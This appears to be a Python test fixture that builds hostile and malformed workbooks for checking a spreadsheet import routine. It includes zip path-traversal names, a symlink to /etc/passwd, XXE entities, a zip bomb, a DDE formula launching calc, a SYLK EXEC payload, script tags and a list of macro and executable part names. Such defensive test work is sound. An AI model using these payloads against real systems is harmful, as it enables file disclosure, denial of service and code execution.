"""Workbooks that mean harm, and a few that only look as if they did. Built here, never committed.

`BOOKS` maps a name to the file's name, its bytes, and whether the import may take it in; refused is what all
others must be, with words.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import datetime
from functools import lru_cache

from tests.exchange.rosters import good_row, ods, roster, table, xlsx
from tests.exchange.test_files import HOSTILE, OLD, ole, unzip, zipped

Make = Callable[[], bytes]
Entry = tuple[str, Make, bool | None]
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"


@lru_cache(maxsize=1)
def good() -> bytes:
    """A workbook nothing is wrong with."""
    return xlsx(table(roster(2)))


def changed(part: str, old: str, new: str, base: bytes | None = None) -> bytes:
    """The same workbook with one place of one part written differently."""
    parts = unzip(base or good())
    assert any(name == part and old.encode() in data for name, data in parts), part
    return zipped(*[(n, d.replace(old.encode(), new.encode(), 1) if n == part else d) for n, d in parts])


def added(name: str, data: bytes = b"x") -> bytes:
    """The same workbook with one part more."""
    return zipped((name, data), base=good())


def cell(xml: str) -> bytes:
    """The same workbook with something else in the cell after the last."""
    return changed(SHEET, "</sheetData>", f'<row r="9"><c r="A9">{xml}</c></row></sheetData>')


def doctype(text: str, use: str = "&e;") -> bytes:
    """A document type with entities, and one of them in a shared string."""
    head = f'<?xml version="1.0"?><!DOCTYPE sst [{text}]>'
    body = (head + f"<sst><si><t>{use}</t></si></sst>").encode()
    return zipped(*[(n, body if n == STRINGS else d) for n, d in unzip(good())])


def local(
    name: str, data: bytes, *, method: int = 8, flags: int = 0, attr: int = 0, size: int | None = None
) -> bytes:
    """An archive with one more entry whose head says whatever it likes."""
    out = io.BytesIO(good())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as pack:
        info = zipfile.ZipInfo(name)
        info.external_attr = attr << 16
        pack.writestr(info, data)
        pack.filelist[-1].flag_bits |= flags
        pack.filelist[-1].compress_type = method
        if size is not None:
            pack.filelist[-1].file_size = size
    return out.getvalue()


def overlapping(times: int = 50) -> bytes:
    """Fifty entries of the directory that all point at the same packed megabytes (Fifield's bomb)."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(b"\0" * 9_000_000) + packed.flush()
    head = (
        struct.pack(
            "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, zlib.crc32(b"\0" * 9_000_000), len(body), 9_000_000, 8, 0
        )
        + b"file.xml"
    )
    start, central = 0, b""
    for n in range(times):
        name = b"[Content_Types].xml" if n == 0 else b"f%d.xml" % n
        central += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, zlib.crc32(b"\0" * 9_000_000), len(body), 9_000_000,
                               len(name), 0, 0, 0, 0, 0, start) + name  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, times, times, len(central), len(head) + len(body), 0)
    return head + body + central + end


def repeated() -> bytes:
    """One line of an ODS sheet that stands for sixteen thousand million cells."""
    parts = unzip(ods(table([good_row(1)])))
    rows = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
    return zipped(
        *[(n, d.replace(b"</table:table>", rows.encode(), 1) if n == "content.xml" else d) for n, d in parts]
    )


def flipped(data: bytes, seed: int, times: int = 40) -> bytes:
    """Bits turned at random places, always the same ones."""
    dice, out = random.Random(seed), bytearray(data)
    for _ in range(times):
        out[dice.randrange(8, len(out))] ^= 1 << dice.randrange(8)
    return bytes(out)


def chained(base: bytes) -> bytes:
    """An old office file whose every sector comes after itself."""
    out = bytearray(base)
    start = 512 + struct.unpack_from("<I", base, 76)[0] * 512
    for n in range(128):
        struct.pack_into("<I", out, start + n * 4, n)
    return bytes(out)


def dated_1904() -> bytes:
    """Days counted from 1904, as old machines of another make do."""
    import xlsxwriter

    out, (heads, row) = io.BytesIO(), table([good_row(1)])
    with xlsxwriter.Workbook(out, {"date_1904": True, "default_date_format": "yyyy-mm-dd"}) as book:
        page = book.add_worksheet()
        for at, (head, value) in enumerate(zip(heads, row, strict=True)):
            page.write_string(0, at, head)
            if "日期" in head and value:
                page.write_datetime(1, at, datetime.fromisoformat(value))
            else:
                page.write_string(1, at, str(value))
    return out.getvalue()


def sheets(*states: str, merged: bool = False, macro: bool = False) -> bytes:
    """A workbook whose sheets are hidden, very hidden, or merged all over."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        for n, state in enumerate(states):
            page = book.add_worksheet(f"表{n}")
            for line, row in enumerate(table(roster(2))):
                for at, value in enumerate(row):
                    page.write_string(line, at, str(value))
            if merged:
                page.merge_range(10, 0, 40, 5, "合并")
            {"hidden": page.hide, "very": page.very_hidden, "seen": lambda: None}[state]()
        # the writer shows whichever sheet is open, whatever was asked
        open_at = states.index("seen") if "seen" in states else None
        (book.add_worksheet("空") if open_at is None else book.worksheets()[open_at]).activate()
    return out.getvalue()


def _tricks() -> Iterator[tuple[str, Entry]]:
    slips = ("../x.xml", "..\\x.xml", "/x.xml", "C:/x.xml", "xl/../../x.xml", "xl//x.xml", "．．/x.xml", "‥/x.xml", "xl/\u202ex.xml",
             "\ufeffx.xml", "xl/x\n.xml", "~/x.xml/..", "con:/x", "x" * 300 + "/..", "%2e%2e/x|y", "\\\\host\\x")  # fmt: skip
    for n, name in enumerate(slips):
        yield f"slip {n} {ascii(name)[:30]}", ("a.xlsx", lambda name=name: added(name), False)
    for name in ("xl/vbaProject.bin", "XL/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.bin", "xl/embeddings/oleObject1.bin",
                 "Basic/Standard/Module1.xml", "Scripts/python/x.py", "x.exe", "inner.xlsx.zip", "run.lnk", "a.hta", "b.ps1"):  # fmt: skip
        yield f"cargo {name}", ("a.xlsx", lambda name=name: added(name), False)
    for n in range(12):
        yield f"bits {n}", ("a.xlsx", lambda n=n: flipped(good(), n), False)
    for n in range(8):
        yield f"old bits {n}", ("a.xls", lambda n=n: flipped(OLD.read_bytes(), n, 200), False)
    for part in (1, 3, 10, 100, 1000):
        yield f"cut at {part}", ("a.xlsx", lambda part=part: good()[:part], False)
    for n, target in enumerate(
        ("file:///etc/passwd", "http://127.0.0.1:9/x", "../../../../etc/passwd", "\\\\evil\\share\\x")
    ):
        old = 'Target="worksheets/sheet1.xml"'
        yield (
            f"target {n}",
            (
                "a.xlsx",
                lambda t=target, old=old: changed("xl/_rels/workbook.xml.rels", old, f'Target="{t}"'),
                False,
            ),
        )


HEADS_CSV = "姓名,身份证号,村（社区）\n周明远,1,上河村\n"
BOOKS: dict[str, Entry] = {
    **{f"known {k}": (name, make, False) for k, (name, make, _code) in HOSTILE.items()},
    **dict(_tricks()),
    "symlink": ("a.xlsx", lambda: local("xl/link.xml", b"/etc/passwd", attr=0o120777), False),
    "encrypted entry": ("a.xlsx", lambda: local("xl/x.xml", b"x", flags=1), False),
    "lzma": ("a.xlsx", lambda: local("xl/x.xml", b"x", method=14), False),
    "bzip2": ("a.xlsx", lambda: local("xl/x.xml", b"x", method=12), False),
    "unknown method": ("a.xlsx", lambda: local("xl/x.xml", b"x", method=99), False),
    "size of four gigabytes": ("a.xlsx", lambda: local("xl/x.xml", b"x", size=0xFFFFFFFE), False),
    "overlapping": ("a.xlsx", overlapping, False),
    "twice by case": ("a.xlsx", lambda: added("XL/Workbook.xml"), False),
    "twice by width": ("a.xlsx", lambda: added("ｘl/workbook.xml"), False),
    "repeated cells": ("a.ods", repeated, True),
    "file entity": ("a.xlsx", lambda: doctype('<!ENTITY e SYSTEM "file:///etc/passwd">'), False),
    "net entity": ("a.xlsx", lambda: doctype('<!ENTITY e SYSTEM "http://127.0.0.1:9/">'), False),
    "parameter entity": ("a.xlsx", lambda: doctype('<!ENTITY % p SYSTEM "http://127.0.0.1:9/"> %p;'), False),
    "quadratic": ("a.xlsx", lambda: doctype(f'<!ENTITY e "{"a" * 50_000}">', "&e;" * 5000), False),
    "deep": ("a.xlsx", lambda: changed(SHEET, "<sheetData>", "<x>" * 300_000 + "<sheetData>"), True),
    "long attribute": ("a.xlsx", lambda: changed(SHEET, "<sheetData>", f'<x y="{"z" * 9_000_000}"/><sheetData>'), False),
    "long comment": ("a.xlsx", lambda: changed(SHEET, "<sheetData>", f"<!--{'z' * 9_000_000}--><sheetData>"), False),
    "dimension of everything": ("a.xlsx", lambda: changed(SHEET, "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'), True),
    "negative row": ("a.xlsx", lambda: changed(SHEET, 'r="A1"', 'r="A-1"'), False),
    "row of four thousand million": ("a.xlsx", lambda: changed(SHEET, 'r="A2"', 'r="A4294967295"'), False),
    "many fonts": ("a.xlsx", lambda: changed("xl/styles.xml", "</fonts>", "<font/>" * 500_000 + "</fonts>"), False),
    "string index of nowhere": ("a.xlsx", lambda: cell("<v>99999999</v>"), True),
    "a text of a megabyte": ("a.xlsx", lambda: changed(STRINGS, "<si>", f"<si><t>{'长' * 300_000}</t></si><si>"), True),
    "dde": ("a.xlsx", lambda: cell("<f>cmd|'/C calc'!A0</f><v>0</v>"), True),
    "webservice": ("a.xlsx", lambda: cell('<f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>1</v>'), True),
    "formula alone": ("a.xlsx", lambda: cell("<f>1+1</f>"), True),
    "external link": ("a.xlsx", lambda: added("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), True),
    "custom buttons": ("a.xlsx", lambda: added("customUI/customUI.xml", b'<customUI onLoad="x"/>'), True),
    "all hidden": ("a.xlsx", lambda: sheets("hidden", "very"), False),
    "one hidden": ("a.xlsx", lambda: sheets("hidden", "seen"), True),
    "merged": ("a.xlsx", lambda: sheets("seen", merged=True), True),
    "forty sheets": ("a.xlsx", lambda: sheets(*["seen"] * 40), True),
    "days from 1904": ("a.xlsx", dated_1904, True),
    "csv": ("a.csv", HEADS_CSV.encode, False),
    "gbk csv as xlsx": ("a.xlsx", lambda: HEADS_CSV.encode("gbk"), False),
    "gbk csv as xls": ("a.xls", lambda: HEADS_CSV.encode("gbk"), False),
    "utf-16 csv": ("a.xlsx", lambda: HEADS_CSV.encode("utf-16"), False),
    "page as xls": ("a.xls", lambda: b"<html><table><tr><td>\xd0\xd5\xc3\xfb</td></tr></table><script>alert(1)</script>", False),
    "xml 2003": ("a.xls", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', False),
    "sylk": ("a.xls", lambda: b"ID;PWXL;N;E\nC;X1;Y1;E=EXEC(\"calc\")\nE\n", False),
    "dbf": ("a.xls", lambda: b"\x03\x7d\x0b\x19" + b"\0" * 100, False),
    "rtf": ("a.xls", lambda: b"{\\rtf1 {\\object\\objocx}}", False),
    "picture and workbook": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + good(), False),
    "pdf and workbook": ("a.xlsx", lambda: b"%PDF-1.7\n" + good(), False),
    "workbook and page": ("a.xlsx", lambda: good() + b"<script>alert(1)</script>", True),
    "old loop": ("a.xls", lambda: chained(OLD.read_bytes()), False),
    "old head alone": ("a.xls", lambda: OLD.read_bytes()[:512], False),
    "old rubbish": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(200_000), False),
    "old macro by case": ("a.et", lambda: ole("_VBA_PROJECT"), False),
    "eicar": ("a.xlsx", lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", False),
    "program": ("a.xlsx", lambda: b"MZ" + b"\0" * 1000, False),
}  # fmt: skip
